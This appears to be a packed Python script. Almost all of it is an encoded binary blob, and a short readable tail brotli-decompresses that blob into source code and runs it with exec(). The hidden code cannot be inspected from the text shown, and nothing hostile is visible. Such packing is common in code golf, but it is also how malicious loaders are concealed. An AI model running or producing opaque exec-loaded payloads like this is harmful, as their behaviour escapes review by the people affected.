ɜU.]/ݧ&~\qNĸzѼApǞ=ϧH`Ջfjs3 ,_0D{	% xxl^(+1Tʹ3""EuhpSS?c[ӧies*\#sD&,%;[QH0amizh}PkZ0q0Y )V0z£E(,FL?ǠMJz٧w~'3[ƣ)Io<kLs6/t$YJү"fٺ?=!-,Ej̼K[b[B;m<YÛ"?ȁ)$»5/ڡ_j
~c_`Y+ji8g{
#T-Qۢupp̝1Pi.PD3Y/#ˤȢjws-,?ކ	Q<ܦA$I~-.{(׷ׁ֭P#-|Hhi'U҉/ <Wkk6˚n,C߻Cu܋y!EfAE3>_ģũ=$z13;RlV2 $ï=Y3 1<hj%G_(Xh[?ϖ3ߍZabYƄ'Nܕ~ǲB Ū1cSJ{oI]Ne2؉nݸ/
ZeX,oMҭU{qV?߽$blF  L?K	]~nP-eZUmq->:@VMW&ft8fZx?}9^'<JKҫupHHxCК*A)244ao9y/ڊbz!fL*'˙ʓ	4BgsDlntmrӛ'ܔ5IJMq֧>ASBHXMDĀ}\T?LguDo?΀IAl)_b6րZu0֝AO(.cifۦ9ظ?[ۋor{/PD.af?Iѷ^еnZ7H\{o~72E
G
x*i:n^n6dzҷs,,!ctݸ̇e[A߬>Yǐx$xjjNBǻzJ	v3rƌh=N.x'Du-<~k-<HEßfgV[==6.ϓ7}tޫXbm­T%X]õEGQpq!+p̼7dݨoOh vs}ȝٞg1JqI9I/=Af?éEmplF-ٍǳih(YfyrGf֍~Z4jDrOӁE.KJ&pH~|
۞ā^,ـ;K3A7j2I̸_}	V|DHVRRVGT0ėbNMjqRFğxɍ7vQh`r/W=1sژ#	{>boxT(͒m`ZJy^f<s+GI)|_sנFۅ˧~}lnlN{=v%r=6ܺ(!9uڻmq9ljxؚԞ̚s4ѹ#{45Ƙ)AqBT+\;S&޴ͫ_٘b@-4{~p̰Mo!ˆ(åNҩ7r (i&K[R\[l)61~>J#w:!7&j&Wb$Hi0ۋJ>d#1ẅ́c޸ќɪ~OeVT;@J-D"Lρ(h8,֏@=;ctkRǃZmu8uRw9jȋ"m$^WMVYy[%#/?%^NƗ}*Y+*L,aӐ^GQiX}v
|ڿWP='FӺC٢9?hp):juV̬> @+~;FwY߹.^8Ž#fU5;ħ.:Flԕ\6ֻ-=	z՛5V$YWғ+cH!6i11ԝbRFi9NO%0ҋYpeQo<խ;>Vcquֹۚ!q?w1FE]|ʄsԭo2~CZ|ѝCL@yj%c
$n=LCAǞLd{ҠdתWan߶.@-ׁɤԎ!*Ndq,Al(b^VuN`ZÕӹ?E((WgȭxʗmkY^:dOA_ōC	\-߄ר8,F-pU:^J8aZ$)n)2Re;,Qc+жhlU@^˲2sRR7f!N$il>Rۚ;YxZ:j^>n?}دOQ$es58tFܽȈsOZG'aGBXZNǈnQ#F5=ҹAϏgk{3?fZk|4C7#OȧϥբYC[b+ԎEկGv-}$}u6mEОk"ŊC#/j̡F̨'??˻˵kfhxQx/PzY04G`~o@aZjϊaĵWH׳_B58#φƳR*)%/0Ȕ۳e7˹47G|Ah`m<ɪPt1p);Q^Z<',yZ
d8Ѯ ʌ$	_!Djq'$tS|4uV)uƎBh5;Sͯ)0xY1Bmo2ܙo]PF8zi÷h>׫L_sn{js]݆:BW؝<p}U(R˷JP
sW;B*W(ӋR{$n"_R?Zٟ҉,VQ'>Xp3wZ8Ƌ'TϠޟZr0{SjY#y|w[F-T4RFI7֪&I~~W]/?)kjͰkH̪)¬'-L-|	.E.`KEzclPQCIrnݩy]Vf:V l+ɒR9qE	ìS+MZp;Tl^0ͩƘ8^Wy="`Ve9:9tmoXvlP*ħ1F[3cb'oʶֶnodҎa4K)gea(\А:JYHj=k\G	(nz]{3,QC!¼U5YhqlQ@Ӥ?s76$C^b'~E	yJFXzU	w%ԨהƧfb))sۦx5Wm1^$ՃQ}?cRY?hһTCM
"]`.Wq'+RTӑn54%(Vܪ==W
fѭR-zxq\SzΝːŭ72V{vݧAcgǧ˶X"R"_ҩHUye+2wQIzsK	JʥO4f GHre$8#*y>kFAw59x}x6Kh(a2:YCɥJt!+h	¶ߥ%҃4N-_ 	G9Opw7×1&w
d2pj|\
pa{8B!oNpeOx՗s5Uf;Oؚ1#!cA	ܼ!J\
M`@g:0iYse:[
	AjdkXaޅi:qQ4ߡ4,)]llW3F%#_4N|!,ڿL0Rywhr|63}-x̙(IʪxmB?W3qX8xu06I"b:@<+,*r̉;m
8-Lԏo՜o.f՛@WjgrhBi?""@y=}-k|f֙y)l[(	]
|DBbDN}b24,a|^iS5"=Yk8۔2yl1eٰI.	L&0̄ИvE;UnD2 r'wuq`N8m_͕_ŇRa)S2Ez)_{Dݻ!9t1GA3T={oAa/oFk
Ks-Bɉ͗5M&n&':ݓDVÌ?x
 ';$,FY0ȇ,"}{(g+eͰ)̈́,@ρ>~MM\=z#~Dax}IFcܑecjʻD6=&ڔϻoCL1aN~zsE@bd	&x-3[ޗG8DpǨUD"ۼgτ42O8^!*ZּӸIWSfU҆˘`y$qk5Ŀ:3I#qg+MQoeoզY'_A9ΘPDmFߤO~a/)n@(vsNo5wSIɂּҹz<,6^?)!0d?Inx/o[)Xמg"q֠[0"~4ib|+_ZofblorV'uQ\<e(~9K%Wş<SRݯϼqs5mߙ4Md´ru!JLj8ׁTkrwP8sjrڡx`NaPbQY*^Kks%T	2M ڸCQN(bnBzj
} W}D}qӳ-ə}RǼ_AVYljUqԸL!jN|yw;:MûUm"SwIutq_5z)<}i(ڷ54K0Tl A$i5ԴѾXP8:\ HL@s)!,}D:kAjLFt
K)2[)j`&ݕO&M_ר1Bg
ҢNP;)Wcw2^Y1-dF
:lEn1Wq;Dy6א
)z9	dBc?s=fTL*s-7ԞVJ&w {n[9he?MׄԎWxp	fS[JXcX#z"v~xi?!%]LKڿFlΑ -	 ǡSGwI:+?J*V@i;/<ng[١~F-/ܐ|].Z<ڷf|eOx4C.̍A@c$`o׹aK2:Lx(/sČL4ė9rñtE#x.I![ܥ%s@s_k$&jqp%~+6-X2*b|lT{Ijޭϼ	5̗ج[iԼML$Sծ\;"HӋ1jm!v*l
}=b4^[I(toʘaêU>r(ƌ]rM|4G?DIϪZhASG!bZєeB#8ccܠU'ƾ{)=нon'&zCjru1%ԗ5Q׭G߷]	J^|8YԔVL6Ȅ }ɟi_ynt:.҉BU>Hum-׎'-*"\)eyāB;H={U!nIP*j?="gl8Ks>mԮĎ؎o[QjЖ.sޔҴ͇ՊwفmH\M3I!"g6&]΁Kwb ǭvqXZ=j5B2
Tk3H2+^6Vg3ȼmCrŵ1F0)n*u1$
6wsiDhHvYXqhN^R"Ug:'	%27\֦*}Vs#X,}a9tΛz<٩aj]gYB_`+)svHDz`~^9",(.o3`9̘-v|=ż^_,bkl,!˩Ksc5Ým>C$~Q҈A$s!H0~ƨAH
eH>_кi H#P$̕# ߪ7<-!?j1r<,܆:(lh(!?q%`@^e)4\Zfķ13rr4@
 ѣ#)+qH^yNtfIƩE,)0rŜv @Q:/	>SSړ99T2Cfe]CK8:\sed?3eϡ8/sʛ2
eCv"+\%Q`Ӎ*L4{Юz%F՝)ǄAܫ4i{j632:XnuHd7Wq]!8b0S9UNbȅ;_#-B؟[ah$%B"j 	oz)lݜ"O/i27~'Yƣm}Ô,y̤z$R3>wdB}O\ۣJ-S.ԧTQ-}q9O1@kOf_ppa{mȡʺʰHUXaKp)m2&īĆ#YvQS8C]ovKH@AiQv|RwH2g7Do*;9j+zB$&۹]1ixP|O7%0K-gy4A7H#`U&y4`غŬf-ĻCΐϜ}˅i9cOD1tx-+/c Ӵa)%ׂ1pT3 úGC-P%K. ;TK-^?Kیi/Q;x!qzp:XR-u(A>WіMCv>m
PD,t|%(Juߺlu@C#ـKΠu(BKr)? L,<B
#~KIbPa۩1jʰX]~@!&DZMN2d@ט[ҽd͑Y	 Nxd>!o4RNi4}@B-̓ȝۙ_CAs;uKA-KAԗ#`svP!f,οU،'Li̔,3d0:ȁ3,NiՔnO{HuIqDЪSр8[r'_f5j{ڞ5OLOCրH}^rB|Ĭa-X,U0}ɉ5UGxWG\:;`h["DgJaą:@X=QӪ@zO^_^ݴ0Hި'@0|n~ߞ/?4ϯ23txjg]'wګQ) 8zZqP"<`IOP"usXsǐ63IH2r+γJa־I5_WtgwS(ch˝xڟ~gT+`#yYnfADIbBGwx|GmPx\}e?O>>QҠ]i߹baͷw,pGl	K`M4ϝ֒l/˺pqT"*ƽ4ӽs$*ǧU֤
cɂIvƊ`ǤC\T|x6ŭRqռ.sLnXc!o6k]vQs2	X۱t˷ʨBNЈd~?
B]!(+)\jqvCc!-aZۤ#ē^63U^{IwE2f)r{s}KJRע
`l`]ϐsx.AٿxKq΂#cdO_C-D̃KpEw"	'ײ/T.t;k1τ^ڦsˉw(4^~vtIVU&/F>~Tsb"Α	6kʙܳ}CՑ'- _9V^]DheZ4_eIGǏzp{۳*%2y/!E.vF=ʘPD7-h4W¡geZ&|xB.0
B]p:)$.ߗhBr%N՜mHtXqvޕS>*sz@ MGhvp?K(;ǰbyThlRټik`<cuto¥7X ӷ3}Ycsߴ#BI/
˨ҫˑ=7({W^Uoza&tB',HJJskʁORL*7rۊY/ĴZhgoy^T=_IooώӂwƮ=5zԄI;?v2c}MWѩv;rAE8˚JNuMX Շ3^Kнj~ՙO/r}LU\4h6"Miab,3OړɽL7I[$m+M3?4%wN"]o2/^!)F`4]Ө!E@Mfh~L6(ڽQdGFte*QZQζK+s	~F"ʔWv\7
,Z'8عk|[ؐ
4Z1ˋq6-ub$SF|uŒȎ6ǈAz%[;L'Ŗ"5֮i!p@"w<t[6Ō=&#+Zh3UqLErܜtEҒDC)7̔A3z0͑W-עPG"eeVӒt(Ak,t<_^/Ô{BmbmE@FFIҺpagqӇBGT[@0?+0$4Qm9
*P)	˙B aMH4GS_o~4Fk^V+WBAMPAHH2ɻvlyZIZB|oԻA8%ǂLOmu>>ss>=¸XA$T{sS&`d־O
?c$W%Ӗfކ)=+I~?}:ukm9pP+;hj!"gFƠ&uX͑sF:'QV2b	J
fI&+ԩk
D7v^F(9!ۿ3V9L˥#A^q [OEFXЈp
'G<BmSq"Q8NeׂUZk@FWaR&Qu9,	ױمPM>qh®adcEkQ(ƞGh,*ac9SSFnmӅ8ngp]٤xĻZw9\p{C`*aK|2/Taܽg|pi,#&JͶqת/ƪ$T/:=VRgɸ{;[Q*Lɸށ4P1
lӬ4"gbƈL7эͨ+OƢC c,#ow6m'+D ˝{
0-jr)[eeg˂~dOG83Xt^ye6De4xbhvdm6sixG[%,jvtXtH1YTI	^֗sBB
6}Vrb)~#ˮ5x&ZL$R._(	7m@5W/ײ$Ol:	EC%֫ġi5Ş-wyђ0ţ}VVm:=zh0ݕrS*-!ޝjI#X01yɋ?+
XI[êg]q1UPi,JiJ%ir&)F_Y`,BKL|k	h,ˉF!ύn7ٗ>XX[ĭjb(5bbf-ɾ<l3L^ߦ)v"|kEh)iV-RʲմEQ'X\vqs{J[Pzqd)n3@E
W.7CFI44ҪW	FN/aL-r
HʖhN:;cۿ͚6߾P	t±Dݎ7hnli6ZVDy^7Q&}ϵcה[եڨzTؾ-!n(Gab*h@%Vz'y'%Hr͆]noG.<ʚg1f8<5/5<c
kXC'%fy#:Jz#nuiTfz܁8Ehh'ro_L<*D??#xYNj=dkŦ4SIlʣ86Fh;=4׵bfpO>fp#C:m5sjCvVN^{-PG(X{ȍYcl^GT0»GTI&l3]X/*8:=isHOy[7^١ib.-SG&BFp~ِ[=(1r߄{gU"
=ަ2qP'XzqVɵFV0DXt3ˇFȍ,eP2 t9.&A=xЋ<ÉTo7L|qڂƕ?׶˨O@i&|mNٌ[?ӭjcPA-֎R:׃	߸(M_Oi)mu30ՁyY&@cʰ=s!@uL%+afS5k1]
q0k{d?(J܈ٿ#'SѪ ?BMdOaLnH)ا5܀s,q*޻Ʉ$&{rwMY/֌zzlksҳ!>YPxIi.lX	#<L4BZ<ә@7I҆sF@ߥik(M#3a"(jO1NMЦCЁy#Q[ԙ7ɮ|/,6%piטj	jHX`[un_pbtU}$mA.m6**G_[+fG<t՟M OIOVV,-\nQbl7ynʏׯ?"̾*o;	|J-jЩ0EUS[zߚ(fa-NE+ƁC<08m?95F$;UĠ1ztlvoݩo7e<(L?,-7@0i@$r,31s`."
80o~t:eʖ.Eߗ.Վ$̯~>C8#i`@DhgזGtJp'+(_ӨRp39beۼД{!#Nkdj CgjLg8=μ_0Ԇ%+d7z%c<pY|\+[Z0|/C-־b6Y%$\ZtuIϢ)<IѩɊ'!pܑdYP6/EwW_޸.Դi7LoסCN<&ٜǁUa<,XI*,%0oȥd8Oj,rPFüE,I$ūȧMfĳ9@^ٶ%9&
L^	{)Эe4rLgp6eĕE]u{'j4r?
jkj.kD<;XJfIjۇfOۘ?BP۵`pm.*AbaaL7ڦak]W7Y",)k#AЅrgǽۇ"ZǬ =>5$D|V¬FPՏJiر&Հ!F;<g\3iI@\BǮo3~/Zd_/@QpGޓmgC>j}c$ev\ms`el!ȨB
nb"QѶf$=4/E/<@aZFC!)k5ɒch5]6FT0^n"7АAY߀P	$c@@]٣nO5	'p	ȱ`rǸsrh|܇s=ZH#8|GH^{OF>7D}P֔\dLn el-' l ЬNOą71lidBLbY/BM	F"KȇE6YEa#>S
_PM":1s?ʥкod(܂gߟNPbVA}CSj̭Ǻً@4W3ɝ[K_?g0AʠЧ1y%iQɟOkqbp+/_Nөb:W8mu·%Ưocs[[|Adl̟/UQ/ebDhq=G#cz˿9߈NG[A()yk;6AۀiϾڪyGl/9;RkR!v$8޻Yhe+P}>2f|ޗJ\|.@Zq{+/s31_Õ
YS0
	'&ORtܒ"H?uɇP:] [:$>Bq\Ď^0rɼ߃ gʺ2%(c6|dk=_3RM\f`x{/׃S%k#7̋MIJV=i>N:-s |i.wӪ\^Pw:85jX{%ŃARy;2r">tI7[t-S2f0jsƃ֨On(&XQqޤ<ϧ\X#x$&l\womvE͎VKި_NAu؍D(`^łǸ)%FPZ-֔]Ƹ(*ULgHq=ʻ:@LO݉,%umIBNrJ2N_TI> y8Frb(vvSr'LSMx1"ܭkۇyZ0S72"%|#juG#إnBA6Ŗs>߀gh"(O15a"-pN6T5cB5$/~dȡk[m=J9!/jƏx@1N<zJ@%ĳF?$esĆPe8؅n,yyB	@p''Or3`&8p7|\e*ײy~{#Mǡ,CVcɭkR
vFOZGUmN&n`7˂u8!9T5^tz̾qt[qq|M%%is
`|&,nQP۴plTNvm:Ld%|/^ҟS)ٸB%ԓD~2*%Q@E~3T٫Y(,!tl fW?Ue+f~}riJPhT8//pxg,<_6o3ymҜ>՝Bk#&URd@d??O7҂3n]Ĥ#BNmقxdۻ%#.&K.kk*i?vA?yŎpQh2M}5OHD=߫P֤v\ЀuPVV#,JRgޮ4^6m>l\sPdcZ~8~Ffd'Fe_Wg26ŖMf8kε,0{ǱGς}X)x:I>p۰^w(`{{uN(!fJVu"A`sͣ v0g<+ȚS<Nhn;ºb'LͻlȠ޺k5N\WZz`(E{aK
-ļc#@։f͐=l[ވ_ȡ%݁Ѷd|	ߣԎWơFy¢ׁ͜Ս܃3u^֊#	Ś%MpۉJ{Nog;S<	Ud(z^ ]EGi}	o\WQ%ȉ8ocަJo3߻ǧ8092[6f#+23XO<܋:։}f!ںDerly>Xѵo}4{SɅ1w?wzS 5!0؍
tXAK٤s;."wܡ"~"*n{_]18lO/:k?τH݀&|H8'&?brN_?,9BrxQ-I+lp
^|`׺՗ӟ`.7C4?Dhl@(HCUՔАG%l׈05uCySC\8!Bߖy2ӑщP~3'\oSDא4E_̣m+eEĉۇO(	fM*Bף6ڨTZ4Ys<`P|ƋɎʕ]/&n<XrCSa8KDvCNs)$,:|}yQþVkw^Tʡңbw9xYGe VuRp!,B*ˇCZvt.CSeLdɉa8,yj%%`$3cܙdc8wk%{&G*qR¥:'2zzt-))ME:84&aQM:8lxcXcD7.֬tXNwC:/<SE{(MCy%۝>$X#d7Ih8T
0ڬ:PI/،?2rO26sЯ}2)\9X#aKq߬FEʷ\ƑY]~dז<Y)\Gm.kQQOHܻγ_Mr4( U2;ܼFԎ7c|Y^J]RNRL(iz]ͱ%ڒ>rwYBe&	+U6F~8>(guަ_P$ħcȚi ڏFz.^PU4U]'qgTϊcл|>(&tsGe##K7HLv}
0nm TnqSąP
4Gqtϖaؤc(9WL|>]!f5eZA{Æc-^nΕq=-W2
_׺r)ǱVY=H9þ=_J}'RLC-QEx׆DАl1vM
*hÊѕv^ (DFz,Ϯ;]u$E+4Ȝ4L;zJo\)\b~'BK9D%>C^ΟjwSLQIi7-,"@Kn}Rf9X6A{X!g&Lո]DrVܢ͏8AXIz]T_N7t<Y"Vؓ@ÇJ/8ƽvϣ49NML>ӕڷÿ.aN'Q,c-3 1HBͳbOC͌mkV_),B;7F+eO̖O*ѲmԊ'WƛTY_IyXmW0ߨTZܝ1 ^fMo4Ce&q$852׌x_g&+v&/V;.ӣmxTG,kdօǋL޾Ƌ|> 3g-c/Ӌubl)_ZپH*DsOϠJL&c9<Vi܇s/GEZdfBLy~Q &ʉ](̭8\oRF:Ɣ>4؜
Ӹzѫ]ךuΟHȕV#Qu^j8/=(TtQkP+hA\SPˉѾbTS?VA\u!;݅
̞@c}>^:shӎZ"jݹnJp5bYQwR[*te]xzl^NٗUժXjq;~Ga<pAvj <řfB>@|n$0}!bƕT؞'tX_b\us0nښ5mFUK1ܷf!߰ER]k}5.mB%HkҔ3xII}lceOWe)N,̮IzBϸ^L̳6:ٯҪÙiX߆o]-H<va&"|d:F=?n2z\Kƅ,rUsՄV[5?s"}8Yk<Cg4xuϡmNB<Vt5"tȃie#ʓ[R#~/r&ߥ͹_YTJ,7xSQxߖ҄Dߔ!U+b+ĔRjדRB_KV͝u1wd"{U][ D!fͼJ5y{5Q{ 8Z;B 0|:O@R\t0ƴ׆=t;YN3"<o:q^9ъ50<G_WN\n5LqșI(SΒv!ʸ&iJi1gMANy#M3:KߘC	QIuk-Ţ}3EwΛ^;M[)5K70©L9paD6vu#Uѧ
Tܙ_oh84`r{=:^H6TUtv`G>[i-''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25228)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
